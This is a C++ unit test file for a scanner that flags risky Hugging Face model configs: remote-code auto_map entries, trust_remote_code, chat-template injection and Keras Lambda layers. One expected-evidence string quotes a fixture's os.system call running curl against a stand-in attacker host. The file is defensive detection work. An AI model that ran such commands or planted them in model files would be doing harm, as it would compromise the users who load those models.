// Tests of the Hugging Face config analyzer on the configs in ../testdata (made by
// make_testdata.py) and on the model folder fixtures under tests/fixtures.
#include <gtest/gtest.h>

#include <string>

#include "analyzers/huggingface/references.h"
#include "engine/analyzer.h"
#include "core/mapped_file.h"
#include "engine/engine.h"
#include "engine/scan_context.h"
#include "engine/sniff.h"
#include "support/findings.h"
#include "support/test_paths.h"

namespace mg {
namespace {

Target ScanConfig(const std::string& relative) {
  return ScanFile(test::AnalyzerTestData("huggingface", relative).string(), Limits{});
}

std::size_t AtOrAbove(const Target& target, Severity severity) {
  std::size_t count = 0;
  for (const auto& finding : target.findings) count += finding.severity >= severity ? 1 : 0;
  return count;
}

TEST(HuggingFaceReferenceTest, ParsesTransformersForms) {
  const auto local = huggingface::ParseClassReference("modeling_foo.FooModel");
  ASSERT_TRUE(local.has_value());
  EXPECT_EQ(local->repository, "");
  EXPECT_EQ(local->module, "modeling_foo");
  EXPECT_EQ(local->class_name, "FooModel");
  EXPECT_EQ(local->ModuleFile(), "modeling_foo.py");
  const auto remote = huggingface::ParseClassReference("org/repo--pkg.mod.Cls");
  ASSERT_TRUE(remote.has_value());
  EXPECT_EQ(remote->repository, "org/repo");
  EXPECT_EQ(remote->ModuleFile(), "pkg/mod.py");
  for (const char* bad : {"NoDot", ".Cls", "mod.", "--mod.Cls", "a--b--c.D"}) {
    EXPECT_FALSE(huggingface::ParseClassReference(bad).has_value()) << bad;
  }
}

TEST(HuggingFaceSniffTest, ByNameAndShape) {
  const std::string config = R"({"model_type": "bert"})";
  EXPECT_EQ(SniffAnalyzer(ByteView(config), "m/config.json")->Name(), "huggingface-config");
  EXPECT_EQ(SniffAnalyzer(ByteView(config), "tokenizer_config.json")->Name(), "huggingface-config");
  EXPECT_EQ(SniffAnalyzer(ByteView(config), "other.json"), nullptr);
  EXPECT_EQ(SniffAnalyzer(ByteView(std::string("[1]")), "config.json"), nullptr);
  // A Keras config.json goes to the Keras analyzer; this one scores it low as a fallback.
  const std::string keras = R"({"class_name": "Sequential", "config": {}})";
  const Analyzer* chosen = SniffAnalyzer(ByteView(keras), "config.json");
  ASSERT_NE(chosen, nullptr);
  EXPECT_EQ(chosen->Name(), "keras");
  const Analyzer* huggingface = FindAnalyzer("huggingface-config");
  ASSERT_NE(huggingface, nullptr);
  EXPECT_LT(huggingface->SniffNamed("config.json", ByteView(keras)),
            huggingface->SniffNamed("config.json", ByteView(config)));
}

TEST(HuggingFaceAnalyzerTest, PlainConfigsAreClean) {
  for (const char* name : {"plain/config.json", "generation/generation_config.json",
                           "chat_template_clean/tokenizer_config.json"}) {
    const Target target = ScanConfig(name);
    EXPECT_EQ(target.format, "huggingface-config") << name;
    EXPECT_EQ(target.status, TargetStatus::kComplete) << name;
    EXPECT_EQ(AtOrAbove(target, Severity::kLow), 0u) << name;
  }
  // The Keras analyzer's, and clean: nothing above low; the one low finding is its saving
  // release's advisories (keras_version 2.13.1, docs/advisories.md).
  const Target keras = ScanConfig("keras/config.json");
  EXPECT_EQ(keras.format, "keras");
  EXPECT_EQ(AtOrAbove(keras, Severity::kMedium), 0u);
  EXPECT_EQ(AtOrAbove(keras, Severity::kLow), 1u);
  EXPECT_TRUE(test::Has(keras, "KERAS-VERSION-ADVISORY"));
  EXPECT_TRUE(
      test::Has(ScanConfig("chat_template_clean/tokenizer_config.json"), "HF-CHAT-TEMPLATE"));
}

TEST(HuggingFaceAnalyzerTest, LocalAutoMapNamesTheFileAndWhetherItIsThere) {
  const Target target = ScanConfig("auto_map_local/config.json");
  const auto found = test::WithRule(target, "HF-AUTO-MAP");
  ASSERT_EQ(found.size(), 2u);
  EXPECT_EQ(found[0]->severity, Severity::kMedium);
  EXPECT_EQ(found[0]->evidence,
            "/auto_map/AutoConfig: configuration_custom.CustomConfig -> configuration_custom.py "
            "(present beside the config)");
  EXPECT_EQ(found[1]->evidence,
            "/auto_map/AutoModel: modeling_custom.CustomModel -> modeling_custom.py (not beside "
            "the config: fetched from the model's repository)");
}

TEST(HuggingFaceAnalyzerTest, CodeFromAnotherRepositoryIsHigh) {
  const Target target = ScanConfig("auto_map_remote/config.json");
  const auto found = test::WithRule(target, "HF-REMOTE-REPO-CODE");
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0]->severity, Severity::kHigh);
  EXPECT_NE(found[0]->evidence.find("modeling_evil.py of repository attacker/payload"),
            std::string::npos);
}

TEST(HuggingFaceAnalyzerTest, TokenizerPairsAndLegacyLists) {
  const Target pair_target = ScanConfig("tokenizer_pair/tokenizer_config.json");
  const auto pair = test::WithRule(pair_target, "HF-AUTO-MAP");
  ASSERT_EQ(pair.size(), 1u);  // the null fast tokenizer is skipped
  EXPECT_EQ(pair[0]->evidence.substr(0, 27), "/auto_map/AutoTokenizer/0: ");
  const Target legacy = ScanConfig("tokenizer_legacy_list/tokenizer_config.json");
  EXPECT_EQ(test::WithRule(legacy, "HF-AUTO-MAP").size(), 2u);
}

TEST(HuggingFaceAnalyzerTest, OtherCustomCodeHints) {
  EXPECT_TRUE(test::Has(ScanConfig("custom_pipeline/config.json"), "HF-CUSTOM-PIPELINE"));
  const Target trust_target = ScanConfig("trust_remote_code/config.json");
  const auto trust = test::WithRule(trust_target, "HF-TRUST-REMOTE-CODE");
  ASSERT_EQ(trust.size(), 1u);
  EXPECT_EQ(trust[0]->evidence, "/loader_kwargs/trust_remote_code: true");
  EXPECT_TRUE(
      test::Has(ScanConfig("dotted_tokenizer_class/tokenizer_config.json"), "HF-CUSTOM-CLASS"));
}

TEST(HuggingFaceAnalyzerTest, TemplateReachingPythonInternals) {
  const Target target = ScanConfig("chat_template_ssti/tokenizer_config.json");
  // The Jinja analyzer judges each named template as a member of the config.
  const auto found = test::WithRule(target, "JINJA-TEMPLATE-CODE-EXECUTION");
  ASSERT_FALSE(found.empty());
  EXPECT_EQ(found[0]->severity, Severity::kCritical);
  ASSERT_EQ(found[0]->location.member.size(), 1u);
  EXPECT_EQ(found[0]->location.member[0].rfind("chat_template:", 0), 0u);
  EXPECT_EQ(test::WithRule(target, "HF-CHAT-TEMPLATE").size(), 2u);
}

TEST(HuggingFaceAnalyzerTest, KerasLambdaConfigIsNotSilentlyClean) {
  // Scanned normally, the Keras analyzer takes it and judges the Lambda.
  const Target scanned = ScanConfig("keras_lambda/config.json");
  EXPECT_EQ(scanned.format, "keras");
  EXPECT_EQ(AtOrAbove(scanned, Severity::kCritical), 1u);
  // Should this analyzer get it anyway (a build without Keras), it does not pass it as clean.
  const std::string path = test::AnalyzerTestData("huggingface", "keras_lambda/config.json");
  auto mapped = MappedFile::Open(path);
  ASSERT_TRUE(mapped.ok());
  Target target;
  target.path = path;
  ScanContext ctx(target, Limits{});
  AnalyzeBuffer(ctx, mapped->view(), "huggingface-config");
  EXPECT_EQ(target.status, TargetStatus::kIncomplete);
  EXPECT_EQ(test::WithRule(target, "HF-KERAS-LAMBDA").size(), 1u);
}

TEST(HuggingFaceAnalyzerTest, MalformedAndDuplicates) {
  for (const char* name : {"malformed/config.json", "bad_auto_map/config.json"}) {
    const Target target = ScanConfig(name);
    EXPECT_EQ(target.status, TargetStatus::kIncomplete) << name;
    EXPECT_TRUE(test::Has(target, "HF-MALFORMED-CONFIG")) << name;
  }
  const Target duplicate = ScanConfig("duplicate_auto_map/config.json");
  const auto found = test::WithRule(duplicate, "HF-DUPLICATE-KEY");
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0]->severity, Severity::kMedium);
  EXPECT_EQ(found[0]->evidence, "/auto_map/AutoModel");
  ASSERT_EQ(test::WithRule(duplicate, "HF-AUTO-MAP").size(), 1u);
  EXPECT_NE(test::WithRule(duplicate, "HF-AUTO-MAP")[0]->evidence.find("modeling_b.B"),
            std::string::npos);  // the last value, as Python's json keeps
}

TEST(HuggingFaceFolderTest, CleanModelFolderHasNothingAboveInfo) {
  const ScanOutcome outcome = Scan({(test::FixturesDir() / "clean" / "hf_model").string()}, {});
  ASSERT_EQ(outcome.report.targets.size(), 9u);
  for (const Target& target : outcome.report.targets) {
    EXPECT_EQ(target.status, TargetStatus::kComplete) << target.path;
    EXPECT_EQ(AtOrAbove(target, Severity::kLow), 0u) << target.path;
  }
}

TEST(HuggingFaceFolderTest, RemoteCodeFolder) {
  const auto folder = test::FixturesDir() / "malicious" / "hf_remote_code";
  const Target config = ScanFile((folder / "config.json").string(), Limits{});
  const auto auto_map = test::WithRule(config, "HF-AUTO-MAP");
  ASSERT_EQ(auto_map.size(), 2u);
  EXPECT_NE(auto_map[1]->evidence.find("modeling_x.py (present beside the config)"),
            std::string::npos);
  const Target module = ScanFile((folder / "modeling_x.py").string(), Limits{});
  const auto command = test::WithRule(module, "PY-RUNS-COMMAND");
  ASSERT_EQ(command.size(), 1u);
  EXPECT_EQ(command[0]->evidence, "line 16: os.system('curl attacker.invalid')");
}

}  // namespace
}  // namespace mg
